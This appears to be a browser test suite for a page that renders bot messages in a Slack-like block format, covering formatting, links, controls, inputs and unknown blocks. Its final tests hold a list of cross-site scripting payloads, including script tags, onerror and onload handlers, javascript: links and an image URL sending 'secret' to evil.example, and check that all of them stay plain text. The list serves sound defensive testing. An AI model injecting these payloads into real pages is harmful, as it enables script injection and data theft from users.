"""Check how the page draws what the bot sends, block by block, in a real browser."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

pytestmark = pytest.mark.asyncio(loop_scope="session")

_DRAW = """async ([blocks, errors]) => {
  const { renderBlocks } = await import("/static/js/blocks.js");
  const { Inputs } = await import("/static/js/inputs.js");
  const names = { userName: (id) => `user-${id}`, channelName: (id) => `channel-${id}` };
  const inputs = new Inputs();
  inputs.errors = errors;
  window.presses = [];
  window.inputs = inputs;
  const context = {
    names, inputs, pending: () => false, failure: () => "",
    act: async (press) => { window.presses.push(press); },
  };
  const stage = document.createElement("div");
  stage.id = "drawn";
  stage.append(renderBlocks(blocks, context));
  document.getElementById("drawn")?.remove();
  document.getElementById("channel").prepend(stage);
}"""


async def draw(canvas, *blocks: dict[str, Any], errors: dict[str, str] | None = None):
    await canvas.evaluate(_DRAW, [list(blocks), errors or {}])
    return canvas.locator("#drawn")


def mrkdwn(text: str) -> dict[str, Any]:
    return {"type": "section", "text": {"type": "mrkdwn", "text": text}}


def plain(text: str) -> dict[str, str]:
    return {"type": "plain_text", "text": text}


def option(value: str) -> dict[str, Any]:
    return {"text": plain(value.title()), "value": value}


def rich(*elements: dict[str, Any]) -> dict[str, Any]:
    return {"type": "rich_text", "elements": list(elements)}


def part(kind: str, *elements: dict[str, Any], **more: Any) -> dict[str, Any]:
    return {"type": f"rich_text_{kind}", "elements": list(elements), **more}


def leaf(text: str, **style: bool) -> dict[str, Any]:
    return {"type": "text", "text": text} | ({"style": style} if style else {})


async def test_text_blocks(canvas):
    drawn = await draw(
        canvas,
        {"type": "header", "text": plain("Confirmed :white_check_mark:")},
        mrkdwn("*bold* _italic_ ~gone~ `code` <https://example.com/a?b=1&amp;c=2|a link> <@U1> <#C1|ops> a &lt;b&gt;"),
        {"type": "section", "fields": [{"type": "mrkdwn", "text": "*Node*\nworker-a"}, plain("plain *not bold*")]},
        {"type": "context", "elements": [{"type": "mrkdwn", "text": "7 reads"}, plain("in 0.4 s")]},
        {"type": "divider"},
        {
            "type": "markdown",
            "text": "# Title\n- **one**\n- `two`\n\n> quoted\n\n```\n<b>raw</b>\n```\n[site](https://example.com/x)",
        },
    )
    assert await drawn.locator("h3").inner_text() == "Confirmed ✅"
    for tag, text in (("strong", "bold"), ("em", "italic"), ("s", "gone"), ("code", "code")):
        assert await drawn.locator("[data-block=section] >> nth=0").locator(tag).inner_text() == text
    link = drawn.get_by_role("link", name="a link")
    assert await link.get_attribute("href") == "https://example.com/a?b=1&c=2"
    assert await link.get_attribute("rel") == "noopener noreferrer"
    assert await link.get_attribute("target") == "_blank"
    assert await drawn.locator(".mention").all_inner_texts() == ["@user-U1", "#ops"]
    assert "a <b>" in await drawn.locator("[data-block=section] >> nth=0").inner_text()
    assert await drawn.locator(".block-field").all_inner_texts() == ["Node\nworker-a", "plain *not bold*"]
    assert await drawn.locator(".block-context").inner_text() == "7 reads\nin 0.4 s"
    assert await drawn.locator("hr").count() == 1
    markdown = drawn.locator(".markdown")
    assert await markdown.locator("li").all_inner_texts() == ["one", "two"]
    assert await markdown.locator("pre").inner_text() == "<b>raw</b>"
    assert await markdown.locator("blockquote").inner_text() == "quoted"
    assert await markdown.get_by_role("link").get_attribute("href") == "https://example.com/x"


async def test_rich_text(canvas):
    drawn = await draw(
        canvas,
        rich(
            part(
                "section",
                leaf("plain *stays* <b>"),
                leaf("bold", bold=True),
                leaf("mono", code=True),
                leaf("both", bold=True, strike=True),
                {"type": "link", "url": "https://example.com", "text": "docs"},
                {"type": "link", "url": "javascript:alert(1)", "text": "bad"},
                {"type": "emoji", "name": "tada"},
                {"type": "emoji", "name": "odd", "unicode": "1f600"},
                {"type": "emoji", "name": "unknown"},
                {"type": "user", "user_id": "U1"},
                {"type": "channel", "channel_id": "C1"},
                {"type": "broadcast", "range": "here"},
            ),
            part("list", part("section", leaf("one")), part("section", leaf("two")), style="ordered", indent=1),
            part("preformatted", leaf("a\n  b")),
            part("quote", leaf("said")),
        ),
    )
    section = drawn.locator(".rich-section").first
    assert (await section.inner_text()).startswith("plain *stays* <b>bold")
    assert await section.locator("code").inner_text() == "mono"
    assert await section.locator("strong").all_inner_texts() == ["bold", "both"]
    assert await section.get_by_role("link").all_inner_texts() == ["docs"]
    assert "🎉😀:unknown:" in await section.inner_text()
    assert await section.locator(".mention").all_inner_texts() == ["@user-U1", "#channel-C1", "@here"]
    assert await section.locator(".mention.pings").all_inner_texts() == ["@here"]
    assert await drawn.locator("ol[data-indent='1'] > li").all_inner_texts() == ["one", "two"]
    assert await drawn.locator("pre").inner_text() == "a\n  b"
    assert await drawn.locator("blockquote").inner_text() == "said"


async def test_tables_and_images(canvas):
    cells = [
        [{"type": "raw_text", "text": "pod"}, {"type": "raw_text", "text": "age"}],
        [rich(part("section", leaf("cart-0", code=True))), {"type": "raw_text", "text": "6m"}],
    ]
    drawn = await draw(
        canvas,
        {"type": "table", "rows": cells, "column_settings": [{}, {"align": "right"}]},
        {
            "type": "image",
            "image_url": "data:image/gif;base64,R0lGODlhAQABAAAAACw=",
            "alt_text": "a dot",
            "title": plain("Dot"),
        },
        {"type": "image", "image_url": "https://example.com/x.png", "alt_text": "far away"},
        mrkdwn("beside")
        | {"accessory": {"type": "image", "image_url": "https://example.com/y.png", "alt_text": "aside"}},
    )
    assert await drawn.locator("th").all_inner_texts() == ["pod", "age"]
    assert await drawn.locator("td").all_inner_texts() == ["cart-0", "6m"]
    assert await drawn.locator("td").last.evaluate("each => getComputedStyle(each).textAlign") == "right"
    assert await drawn.locator("img").get_attribute("alt") == "a dot"
    assert await drawn.get_by_role("link").all_inner_texts() == ["🖼 far away", "🖼 aside"]


async def test_controls_deliver_what_was_pressed(canvas):
    button = {"type": "button", "action_id": "go", "text": plain("Go"), "value": "v1", "style": "primary"}
    link = {"type": "button", "action_id": "docs", "text": plain("Docs"), "url": "https://example.com/"}
    menu = {"type": "overflow", "action_id": "more", "options": [option("mute"), option("hide")]}
    select = {
        "type": "static_select",
        "action_id": "pick",
        "placeholder": plain("Pick"),
        "options": [option("a"), option("b")],
    }
    boxes = {"type": "checkboxes", "action_id": "tick", "options": [option("x"), option("y")]}
    drawn = await draw(canvas, {"type": "actions", "block_id": "b", "elements": [button, link, menu, select, boxes]})
    assert "primary" in (await drawn.get_by_role("button", name="Go").get_attribute("class") or "")
    assert await drawn.locator("a").get_attribute("rel") == "noopener noreferrer"
    await drawn.locator("[data-action=go]").click()
    await drawn.locator("[data-action=more]").click()
    await canvas.keyboard.press("ArrowDown")
    await canvas.keyboard.press("Enter")
    await drawn.locator("[data-action=pick]").select_option("b")
    await drawn.locator("[data-action=tick] input").last.check()
    presses = await canvas.evaluate("window.presses")
    assert [(each["action_id"], each.get("value"), each.get("chosen")) for each in presses] == [
        ("go", "v1", None),
        ("more", "hide", None),
        ("pick", "b", None),
        ("tick", None, ["y"]),
    ]
    assert {each["block_id"] for each in presses} == {"b"}


async def test_a_confirm_object_asks_first(canvas):
    confirm = {
        "title": plain("Sure?"),
        "text": {"type": "mrkdwn", "text": "It *is* final."},
        "confirm": plain("Do it"),
        "deny": plain("No"),
        "style": "danger",
    }
    button = {"type": "button", "action_id": "go", "text": plain("Go"), "style": "danger", "confirm": confirm}
    drawn = await draw(canvas, {"type": "actions", "block_id": "b", "elements": [button]})
    await drawn.locator("[data-action=go]").click()
    asked = canvas.get_by_test_id("confirm")
    assert await asked.locator("strong").inner_text() == "is"
    await canvas.keyboard.press("Escape")
    await asked.wait_for(state="detached")
    assert await canvas.evaluate("window.presses.length") == 0
    assert await canvas.evaluate("document.activeElement.dataset.action") == "go"
    await drawn.locator("[data-action=go]").click()
    await asked.get_by_role("button", name="Do it").click()
    await asked.wait_for(state="detached")
    assert await canvas.evaluate("window.presses.length") == 1


async def test_inputs_are_labelled_and_keep_their_value(canvas):
    def field(block: str, element: dict[str, Any], **more: Any) -> dict[str, Any]:
        return {
            "type": "input",
            "block_id": block,
            "label": plain(block.title()),
            "element": element | {"action_id": "a"},
        } | more

    blocks = [
        field(
            "why", {"type": "plain_text_input", "multiline": True, "placeholder": plain("because"), "max_length": 20}
        ),
        field("name", {"type": "plain_text_input", "initial_value": "cart-0"}, hint=plain("Type it in full")),
        field(
            "tick",
            {"type": "checkboxes", "options": [option("x"), option("y")], "initial_options": [option("x")]},
            optional=True,
        ),
        field("pick", {"type": "static_select", "options": [option("a"), option("b")], "initial_option": option("a")}),
        field("odd", {"type": "rich_text_input"}),
    ]
    drawn = await draw(canvas, *blocks, errors={"why": "Say why."})
    why = drawn.get_by_label("Why")
    assert await why.get_attribute("aria-invalid") == "true"
    assert await why.get_attribute("placeholder") == "because"
    assert await drawn.get_by_test_id("input-error").inner_text() == "⚠ Say why.".removeprefix("⚠ ")
    assert await drawn.get_by_label("Name").get_attribute("aria-describedby") == "input-name-a-hint"
    await why.fill("disk is full")
    await drawn.get_by_label("Y", exact=True).check()
    await drawn.get_by_label("Pick").select_option("b")
    values = await canvas.evaluate("blocks => window.inputs.values(blocks)", blocks)
    assert values == {
        "why": {"a": "disk is full"},
        "name": {"a": "cart-0"},
        "tick": {"a": ["x", "y"]},
        "pick": {"a": "b"},
    }
    assert await drawn.get_by_test_id("unknown-block").count() == 1


async def test_an_unknown_block_is_shown_as_json(canvas):
    drawn = await draw(canvas, {"type": "hologram", "shape": "<b>cat</b>"}, {"type": "constructor"})
    unknown = drawn.get_by_test_id("unknown-block")
    assert await unknown.count() == 2
    await unknown.first.locator("summary").click()
    assert json.loads(await unknown.first.locator("pre").inner_text()) == {"type": "hologram", "shape": "<b>cat</b>"}


HOSTILE = (
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<!channel> <!here> <@U1|<b>x</b>>",
    "<javascript:alert(1)|click me>",
    "<data:text/html,<script>alert(1)</script>|x>",
    '"><svg onload=alert(1)>',
    "&lt;img src=x onerror=alert(1)&gt;",
    "[x](javascript:alert(1)) ![y](https://evil.example/?q=secret)",
    "```<b>``` `<i>` *<u>*",
    "\u202e\u0000\ud83d",
)
ALLOWED = {
    "DIV",
    "SPAN",
    "STRONG",
    "EM",
    "S",
    "CODE",
    "PRE",
    "A",
    "BLOCKQUOTE",
    "P",
    "UL",
    "OL",
    "LI",
    "H3",
    "HR",
    "TABLE",
    "THEAD",
    "TBODY",
    "TR",
    "TH",
    "TD",
    "BUTTON",
    "DETAILS",
    "SUMMARY",
}
_LOOK = """() => {
  const all = [...document.querySelectorAll("#drawn *")];
  return {
    tags: [...new Set(all.map((each) => each.tagName))],
    attributes: [...new Set(all.flatMap((each) => each.getAttributeNames()))],
    links: all.filter((each) => each.tagName === "A").map((each) => [each.protocol, each.rel]),
    text: document.getElementById("drawn").textContent,
  };
}"""


def _everywhere(text: str) -> list[dict[str, Any]]:
    return [
        {"type": "header", "text": plain(text)},
        mrkdwn(text),
        {"type": "section", "fields": [plain(text)]},
        {"type": "context", "elements": [{"type": "mrkdwn", "text": text}]},
        rich(
            part(
                "section",
                leaf(text),
                {"type": "link", "url": text, "text": text},
                {"type": "emoji", "name": text, "unicode": text},
            )
        ),
        rich(part("preformatted", leaf(text))),
        {"type": "markdown", "text": text},
        {"type": "table", "rows": [[{"type": "raw_text", "text": text}]]},
        {
            "type": "actions",
            "block_id": text,
            "elements": [{"type": "button", "action_id": text, "text": plain(text), "url": text}],
        },
        {"type": text, "text": text},
    ]


async def _is_harmless(canvas, *texts: str) -> str:
    await draw(canvas, *(block for text in texts for block in _everywhere(text)))
    seen = await canvas.evaluate(_LOOK)
    assert set(seen["tags"]) <= ALLOWED
    assert not [
        each for each in seen["attributes"] if each.startswith("on") or each in ("style", "srcdoc", "formaction")
    ]
    assert {protocol for protocol, _ in seen["links"]} <= {"https:", "http:", "mailto:"}
    assert {rel for _, rel in seen["links"]} <= {"noopener noreferrer"}
    return seen["text"]


@pytest.mark.parametrize("text", HOSTILE)
async def test_hostile_text_stays_text(canvas, text):
    shown = await _is_harmless(canvas, text)
    if "\u0000" not in text:
        # Header, field, rich text, preformatted text, cell and button support no markup at all.
        assert shown.count(text) >= 6


@settings(max_examples=25, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    texts=st.lists(st.text(st.sampled_from("<>|@!#*_~`&;: \nabcU1/-.[]()'\"\\="), max_size=40), min_size=1, max_size=8)
)
async def test_no_text_becomes_markup(canvas, texts):
    await _is_harmless(canvas, *texts)
